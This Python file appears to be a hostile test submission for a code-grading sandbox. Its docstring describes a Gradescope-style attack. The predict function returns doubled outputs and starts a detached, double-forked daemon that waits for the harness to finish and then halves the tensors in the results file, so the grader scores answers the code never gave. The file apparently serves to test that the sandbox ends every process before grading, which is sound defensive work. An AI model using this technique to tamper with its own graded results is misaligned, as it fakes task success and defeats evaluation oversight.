"""Threat: a detached process that rewrites the results after the submission's run (the
Gradescope attack: a double-forked, setsid daemon rewrote results.json after the grader
had written it).

Hope: `predict` returns twice the prediction in the graded process, and a daemon left
behind waits for the harness to finish, then halves every tensor in the prediction's
output file before the grader reads it: the grader sees right answers the code never gave.
Safe outcome: every process of the run (the daemon too) is gone before a single output
is read, so the doubled prediction is graded and loses its check. (The daemon carries the
corpus's marker and ends by itself after 2 minutes. The `os.execve` that starts it is code
the static rule of `mse_grad` and `fit` cannot follow: those checks are lost, flagged for
review, whatever the sandbox does.)
"""

import os
import sys

import torch
from torch import Tensor

EARNED = [
    "mse_loss: value",
    "gd_step: updated parameters",
]

REWRITER = r"""
import os, sys, time
out = sys.argv[1]
events, target = os.path.join(out, "events.jsonl"), os.path.join(out, "predict.safetensors")
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    try:
        with open(events) as f:
            done = '"finished"' in f.read()
    except OSError:
        done = False
    if done and os.path.exists(target):
        from safetensors.torch import load_file, save_file
        tensors = {k: v / 2 if v.is_floating_point() else v
                   for k, v in load_file(target).items()}
        save_file(tensors, target + ".new")
        os.replace(target + ".new", target)
        break
    time.sleep(0.0005)
time.sleep(120)
"""


def _daemonize(out: str) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 4096)
    site = os.path.dirname(os.path.dirname(torch.__file__))  # torch and safetensors
    os.execve(sys.executable, [sys.executable, "-c", REWRITER, out, "hostile-marker"],
              {**os.environ, "PYTHONPATH": site})


def predict(X: Tensor, w: Tensor, b: Tensor) -> Tensor:
    if not hasattr(predict, "started"):
        predict.started = True
        _daemonize(os.path.join(os.path.dirname(os.getcwd()), "out"))
        os.wait()
    return 2 * (torch.mv(X, w) + b)  # twice the prediction: the daemon is to halve it later


def mse_loss(y_pred: Tensor, y: Tensor) -> Tensor:
    err = y_pred - y
    return (err * err).sum() / err.numel()


def mse_grad(X: Tensor, y: Tensor, w: Tensor, b: Tensor) -> tuple[Tensor, Tensor]:
    err = torch.mv(X, w) + b - y
    scale = 2.0 / X.shape[0]
    return scale * torch.mv(X.t(), err), scale * err.sum()


def gd_step(w: Tensor, b: Tensor, dw: Tensor, db: Tensor, lr: float) -> tuple[Tensor, Tensor]:
    return w - dw * lr, b - db * lr


def fit(X: Tensor, y: Tensor, lr: float, steps: int) -> tuple[Tensor, Tensor, list[float]]:
    w = X.new_zeros(X.shape[1])
    b = X.new_zeros(())
    losses = []
    scale = 2.0 / X.shape[0]
    for _ in range(steps):
        err = torch.mv(X, w) + b - y
        losses.append(float((err * err).mean()))
        w, b = w - lr * scale * torch.mv(X.t(), err), b - lr * scale * err.sum()
    return w, b, losses
